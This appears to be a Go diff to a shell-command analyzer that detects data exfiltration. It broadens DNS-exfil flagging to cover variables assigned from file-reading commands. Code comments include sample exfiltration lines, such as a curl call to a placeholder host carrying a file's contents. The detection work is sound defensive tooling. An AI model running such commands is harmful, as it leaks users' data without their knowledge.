@@ -388,7 +388,7 @@ func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, knownArgs
 			}
 		} else {
 			a.egress("dns", sp, "%s: looks up a computed name, which carries data out in the query", name)
-			if a.printedInto(c.args) {
+			if a.printedInto(c.args) || a.readInto(c.args) {
 				c.add(effect.Of(effect.Upload), "dns-exfil", "%s: what a command printed goes into the name or packet it sends, so it leaves where no one sees it", name)
 			}
 		}
@@ -530,18 +530,52 @@ func (a *shellAn) printedInto(ws []word) bool {
 // address sends nothing of the person's.
 func (a *shellAn) readInto(ws []word) bool {
 	for _, w := range ws {
-		t := a.srcText(w.span)
-		if !w.hole || !strings.Contains(t, "$(") && !strings.Contains(t, "`") {
+		if !w.hole {
 			continue
 		}
-		// The first command of each pipeline is where the data comes from:
-		// $(git remote get-url origin | cut -d/ -f4) reads nothing of the
-		// person's, $(cat notes.txt | base64) does.
-		for _, seg := range strings.FieldsFunc(t, func(r rune) bool { return strings.ContainsRune("$(`;&\n", r) }) {
-			seg, _, _ = strings.Cut(seg, "|")
-			if f := strings.Fields(seg); len(f) > 0 && (dataReaders[commandName(strings.Trim(f[0], `"'{}`))] || strings.HasPrefix(f[0], "<")) {
-				return true
-			}
+		t := a.srcText(w.span)
+		if readsData(t) || a.assignedRead(t) {
+			return true
+		}
+	}
+	return false
+}
+
+// assignedRead reports a word that names a variable this input assigns a
+// data reader's output to: d=$(cat notes.txt); curl "https://x/?d=$d".
+func (a *shellAn) assignedRead(t string) bool {
+	if len(a.readVars) == 0 {
+		return false
+	}
+	for {
+		i := strings.IndexByte(t, '$')
+		if i < 0 {
+			return false
+		}
+		t = strings.TrimPrefix(t[i+1:], "{")
+		end := 0
+		for end < len(t) && (t[end] == '_' || t[end] >= 'a' && t[end] <= 'z' || t[end] >= 'A' && t[end] <= 'Z' || end > 0 && t[end] >= '0' && t[end] <= '9') {
+			end++
+		}
+		if a.readVars[t[:end]] {
+			return true
+		}
+	}
+}
+
+// readsData reports source text with a command substitution whose
+// pipeline starts with a data reader, or reads a file with $(< file).
+func readsData(t string) bool {
+	if !strings.Contains(t, "$(") && !strings.Contains(t, "`") {
+		return false
+	}
+	// The first command of each pipeline is where the data comes from:
+	// $(git remote get-url origin | cut -d/ -f4) reads nothing of the
+	// person's, $(cat notes.txt | base64) does.
+	for _, seg := range strings.FieldsFunc(t, func(r rune) bool { return strings.ContainsRune("$(`;&\n", r) }) {
+		seg, _, _ = strings.Cut(seg, "|")
+		if f := strings.Fields(seg); len(f) > 0 && (dataReaders[commandName(strings.Trim(f[0], `"'{}`))] || strings.HasPrefix(f[0], "<")) {
+			return true
 		}
 	}
 	return false
